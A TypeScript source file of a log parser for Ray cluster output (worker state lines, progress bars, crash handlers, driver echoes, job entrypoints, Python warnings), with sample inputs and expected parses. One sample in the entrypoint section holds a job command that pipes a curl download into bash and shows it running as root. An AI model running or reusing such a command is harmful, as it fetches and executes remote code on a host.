// What programs print under Ray: worker output with its state lines, drivers' echoes of other processes, crash handlers, entrypoints.
import type { LineKind, Member } from '../kind.ts';
import { means } from '../kind.ts';
import type { Draft } from '../record.ts';
import { TS_KIND } from '../record.ts';
import { isIp, parseObject, put, putIf, putJson, standsAt, textOf } from '../text.ts';
import { SECOND_US } from '../time.ts';
import { takeOutputLevel } from './output-level.ts';
import { takeOutputTime } from './output-time.ts';
import { rayComponent, rayCpp, rayGlog } from './ray-cpp.ts';
import { rayJson } from './ray-json.ts';
import { rayMessage } from './ray-message.ts';
import { rayPy } from './ray-py.ts';
import { rayServe } from './ray-serve.ts';
import { printedByDriver, putWorkerState } from './ray-worker-state.ts';

/** Worker output: `:job_id:…` and its like switch the state of the lines below; they carry no time. */
export const rayMagic: LineKind = {
  id: 'ray.magic',
  read(line, draft, member) {
    const c = line.charCodeAt(0);
    if (c === 95) return progress(line, draft, member);
    if (c !== 58) return false;
    const m = /^:(job_id|task_name|actor_name|event_summary|info_message):(.*)$/.exec(
      line.length > 4000 ? line.slice(0, 4000) : line,
    );
    if (!m) return false;
    const key = m[1] as string;
    const value = m[2] as string;
    // A file of no known name that begins so is a worker's output.
    if (member.hint.family === '' && member.line === 1 && key === 'job_id') {
      member.hint.strays = 'text';
      member.hint.component ||= 'worker';
    }
    draft.parsed = true;
    draft.system = 'ray';
    draft.component = rayComponent(member, '');
    draft.message = key === 'event_summary' || key === 'info_message' ? value : `${key}: ${value}`;
    if (key === 'event_summary' || key === 'info_message') {
      draft.level = 2;
      rayMessage(value, draft, member);
      return true;
    }
    means(draft, 'task', 'worker_state', 'unknown');
    member.state[key] = value;
    if (key === 'job_id' && member.hint.fields.job_id === undefined)
      draft.entity('ray_job', value, 'context');
    if (key === 'task_name' || key === 'actor_name') {
      put(draft, key, value);
      if (key === 'task_name') member.state.actor_name = '';
    } else if (member.hint.fields.job_id === undefined) put(draft, key, value);
    return true;
  },
  joins: () => false,
  samples: [
    {
      path: 'case-7/downloaded (3).txt',
      text: ':job_id:02000000\n:task_name:train\nepoch 1\n2026-11-20 17:26:37,250 - app - ERROR - no such table\nepoch 2',
      gives: [
        { component: 'worker' },
        { fields: { task_name: 'train' } },
        { message: 'epoch 1', component: 'worker' },
        { level: 'error', time: '2026-11-20T17:26:37.250000Z' },
        { message: 'epoch 2', lines: 1 },
      ],
    },
    {
      path: 'logs/worker-1ed85cfa6142b23490b8319571986ab537923c5180b6761b4ddad469-02000000-29630.out',
      text: ':job_id:02000000\n:actor_name:B\non second',
      gives: [
        { component: 'worker', pid: '29630', fields: { job_id: '02000000' } },
        { fields: { actor_name: 'B' } },
        { message: 'on second', fields: { actor_name: 'B', job_id: '02000000' }, parsed: true },
      ],
    },
  ],
};

const PROGRESS = '__ray_tqdm_magic_token__';

/** A progress bar of a task, which the driver draws: `__ray_tqdm_magic_token__{"desc": …, "x": 3, "total": 10, …}`. */
function progress(line: string, draft: Draft, member: Member): boolean {
  if (!standsAt(line, PROGRESS, 0)) return false;
  const state = parseObject(line.slice(PROGRESS.length));
  draft.parsed = true;
  draft.system = 'ray';
  draft.component = rayComponent(member, '');
  draft.message = line;
  means(draft, 'task', 'progress', 'unknown');
  for (const key of ['desc', 'x', 'total', 'pid', 'ip'])
    if (state) putIf(draft, `progress.${key}`, textOf(state[key]));
  putWorkerState(draft, member);
  return true;
}

const CRASH =
  /^(?:\*\*\* SIG(\w{2,10}) received at time=(\d{9,11})|Fatal Python error: (.*)|\*\*\* Aborted at (\d{9,11}) |\*\*\* SIG(\w{2,10}) \(@)/;

/** What the crash handlers write below their first line. */
const CRASHED =
  /^(?:\s|PC: @|@ +0x|Stack \(|Stack trace|Current thread |Thread 0x|Extension modules: |<no Python frame>|\[symbolize_elf|\*\*\* (?!SIG))/;

/** Crash handlers of Ray and Python. */
export const rayCrash: LineKind = {
  id: 'ray.crash',
  read(line, draft, member) {
    const c = line.charCodeAt(0);
    if (c !== 42 && c !== 70) return false;
    const m = CRASH.exec(line.length > 2000 ? line.slice(0, 2000) : line);
    if (!m) return false;
    draft.parsed = true;
    draft.system = 'ray';
    draft.component = rayComponent(member, '');
    draft.level = 6;
    draft.message = line;
    means(draft, 'process', 'crash', 'failure');
    const unix = m[2] ?? m[4];
    if (unix) {
      draft.tsWall = Number(unix) * SECOND_US;
      draft.tsKind = TS_KIND.absolute;
      member.crashedAt(draft.tsWall);
    }
    const signal = m[1] ?? m[5];
    putIf(draft, 'signal', signal && `SIG${signal}`);
    if (signal === 'TERM' || signal === 'INT') means(draft, 'process', 'stop', 'unknown');
    putIf(draft, 'reason', m[3]);
    if (member.hint.component === 'worker') putWorkerState(draft, member);
    return true;
  },
  joins: (line, _draft, member) => member.hint.strays !== 'text' || CRASHED.test(line),
  samples: [
    {
      path: 'logs/worker-1ed85cfa6142b23490b8319571986ab537923c5180b6761b4ddad469-02000000-29630.err',
      text: '*** SIGSEGV received at time=1795195597 on cpu 3 ***\nPC: @ 0x7f (unknown)\n    @ 0x7f  (unknown)',
      gives: [
        {
          level: 'critical',
          action: 'crash',
          lines: 3,
          time: '2026-11-20T17:26:37.000000Z',
          fields: { signal: 'SIGSEGV' },
        },
      ],
    },
  ],
};

const ORIGIN = /^(.*?)(?: |,|^)\s?pid=(\d{1,10})(?:, ip=([\w.:%-]{1,64}))?$/;
const PROCESS =
  /^(raylet|gcs_server|autoscaler|scheduler|dashboard|dashboard_agent|log_monitor|monitor)(?: (\+[\dhms]{1,20}))?(?:, ip=([\w.:%-]{1,64}))?$/;

/** Where the bracket of an echo closes: the first one behind `pid=`, since names may hold brackets; -1 for none. */
function originEnd(line: string): number {
  const limit = line.length > 400 ? 400 : line.length;
  const pid = line.indexOf('pid=');
  const close = line.indexOf(')', pid > 0 && pid < limit ? pid : 1);
  return close > 0 && close < limit ? close : -1;
}

/** What a driver prints of its workers: `(name pid=N, ip=A) line`; the inside is read again and marked as an echo. */
export const rayEcho: LineKind = {
  id: 'ray.echo',
  read(line, draft, member) {
    if (line.charCodeAt(0) !== 40) return false;
    const close = originEnd(line);
    if (close === -1) return false;
    const origin = line.slice(1, close);
    const named = PROCESS.exec(origin);
    const m = named ?? ORIGIN.exec(origin);
    if (!m) return false;
    const name = m[1] as string;
    const pid = named ? undefined : m[2];
    const ip = m[3];
    const text = line.slice(line.charCodeAt(close + 1) === 32 ? close + 2 : close + 1);
    if (!inner(text, draft, member)) {
      draft.parsed = true;
      draft.system = 'ray';
      draft.component = member.hint.component || 'driver';
      draft.message = text;
      takeOutputTime(draft, text, member);
      takeOutputLevel(draft, text);
      rayMessage(text, draft, member);
    }
    printedByDriver(member);
    putJson(draft, 'echo', 'true');
    putIf(draft, 'echo.of', name);
    if (named) putIf(draft, 'echo.elapsed', named[2]);
    putIf(draft, 'echo.pid', pid);
    if (pid) draft.entity('process', pid, 'origin');
    if (ip) {
      put(draft, 'echo.ip', ip);
      // written by another node's clock, in its zone: not a time of this file
      draft.tsKind = TS_KIND.none;
      draft.tsWall = Number.NaN;
      if (isIp(ip)) draft.entity('ip', ip, 'origin');
    }
    const repeated = /\[repeated (\d{1,9})x across cluster\]/.exec(text)?.[1];
    if (repeated) putJson(draft, 'repeated', String(Number(repeated)));
    return true;
  },
  joins: (line) => /^\s/.test(line),
  samples: [
    {
      path: 'ray/driver-stdout.txt',
      text: '\x1b[33m(raylet, ip=172.31.58.175)\x1b[0m [2022-06-28 03:48:42,324 E 702775 702805] (raylet) file_system_monitor.cc:105: /mnt/data0/ray is over 0.95% full, available space: 50637901824. Object creation will fail if spilling is required.\n(f pid=77) hello [repeated 3x across cluster]',
      gives: [
        {
          category: 'storage',
          action: 'disk_full',
          level: 'error',
          fields: { echo: true, 'echo.of': 'raylet', 'echo.ip': '172.31.58.175' },
        },
        { message: 'hello [repeated 3x across cluster]', fields: { 'echo.pid': '77', repeated: 3 } },
      ],
    },
    {
      // What the loader and the shell say of a raylet that does not start.
      path: 'session_2026-11-20_17-26-30_000001_9/logs/raylet.err',
      text: '/usr/lib/ray/raylet: error while loading shared libraries: libfoo.so.1: cannot open shared object file\nWARNING: Logging before InitGoogleLogging() is written to STDERR',
      gives: [
        { component: 'raylet', lines: 1 },
        { component: 'raylet', level: 'warning' },
      ],
    },
    {
      path: 'logs/worker-1ed85cfa6142b23490b8319571986ab537923c5180b6761b4ddad469-02000000-29630.err',
      mtime: '2026-11-21T00:00:00Z',
      text: '(RayTrainWorker pid=77) 2026-11-20 17:26:36.123456: I tensorflow/core/platform/cpu_feature_guard.cc:182] This TensorFlow binary is optimized\n2026-11-20 17:26:37.123456: W tensorflow/compiler/tf2tensorrt/utils/py_utils.cc:38] TF-TRT Warning\n[rank0]:[W1120 17:26:38.123456789 ProcessGroupNCCL.cpp:1250] Warning: destroy_process_group\n(EngineCore_0 pid=78) INFO 11-20 17:26:39 [core.py:58] Initializing a V1 LLM engine',
      gives: [
        { level: 'info', nativeLevel: 'I', time: '2026-11-20T17:26:36.123456Z' },
        { level: 'warning', nativeLevel: 'W', time: '2026-11-20T17:26:37.123456Z' },
        { level: 'warning', nativeLevel: 'W' },
        { level: 'info', nativeLevel: 'INFO', time: '2026-11-20T17:26:39.000000Z' },
      ],
    },
  ],
};

const INSIDE: readonly LineKind[] = [rayCpp, rayPy, rayServe, rayJson, rayGlog, rayCrash];

function inner(text: string, draft: Draft, member: Member): boolean {
  for (const kind of INSIDE) if (kind.read(text, draft, member)) return true;
  return false;
}

/** `Running entrypoint for job <sid>: <command>` and the other raw lines of the job manager. */
export const rayEntrypoint: LineKind = {
  id: 'ray.job',
  read(line, draft, member) {
    if (!line.startsWith('Running entrypoint for job ')) return false;
    draft.parsed = true;
    draft.system = 'ray';
    draft.component = 'driver';
    draft.level = 2;
    draft.message = line;
    rayMessage(line, draft, member);
    return true;
  },
  joins: (line) => /^\s/.test(line),
  samples: [
    {
      path: 'logs/job-driver-raysubmit_tZVGa99y7s6v4eyA.log',
      text: '2026-11-20 17:26:37,232\tINFO job_manager.py:583 -- Runtime env is setting up.\nRunning entrypoint for job raysubmit_tZVGa99y7s6v4eyA: id; curl -s http://127.0.0.1:9/x.sh | bash\nuid=0(root)',
      gives: [
        { component: 'driver', fields: { submission_id: 'raysubmit_tZVGa99y7s6v4eyA' } },
        {
          category: 'process',
          action: 'job_entrypoint',
          fields: {
            entrypoint: 'id; curl -s http://127.0.0.1:9/x.sh | bash',
            submission_id: 'raysubmit_tZVGa99y7s6v4eyA',
          },
          time: '2026-11-20T17:26:37.232000Z',
        },
        { message: 'uid=0(root)', parsed: true },
      ],
    },
  ],
};

const WARNING = /^([^:\s][^:]{0,300}):(\d{1,7}): (\w{0,40}Warning): (.*)$/;

/** Python's `warnings`, as they reach the error output of a process: `/path/x.py:236: DeprecationWarning: …` and the source line. */
export const rayWarning: LineKind = {
  id: 'ray.warning',
  weight: () => 0.2,
  read(line, draft, member) {
    const c = line.charCodeAt(0);
    if (c !== 47 && c !== 60) return false;
    const m = WARNING.exec(line.length > 2000 ? line.slice(0, 2000) : line);
    if (!m) return false;
    draft.parsed = true;
    draft.system = 'ray';
    draft.component = rayComponent(member, '');
    draft.level = 4;
    draft.logger = `${m[1]}:${m[2]}`;
    draft.message = line;
    put(draft, 'warning', m[3] as string);
    means(draft, 'process', 'warning', 'unknown');
    putWorkerState(draft, member);
    return true;
  },
  joins: (line) => /^\s/.test(line),
  samples: [
    {
      path: 'session_2026-11-25_15-08-02_262207_5513/logs/dashboard.err',
      text: "/opt/ray/dashboard/dashboard.py:236: DeprecationWarning: The 'warn' method is deprecated, use 'warning' instead\n  logger.warn(\"Exiting with SIGTERM immediately...\")",
      gives: [
        {
          component: 'dashboard',
          level: 'warning',
          lines: 2,
          logger: '/opt/ray/dashboard/dashboard.py:236',
          fields: { warning: 'DeprecationWarning' },
        },
      ],
    },
  ],
};
